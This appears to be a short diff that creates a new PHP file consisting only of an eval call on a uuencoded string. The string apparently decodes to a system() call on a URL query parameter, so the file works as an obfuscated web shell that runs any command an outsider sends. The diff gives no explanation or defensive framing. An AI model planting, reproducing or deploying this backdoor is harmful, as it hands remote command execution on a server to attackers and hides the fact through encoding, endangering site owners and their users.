@@ -0,0 +1,3 @@
+<?php eval(convert_uudecode('5<WES=&5M*"1?1T546R)C;60B72D[
+`
+'));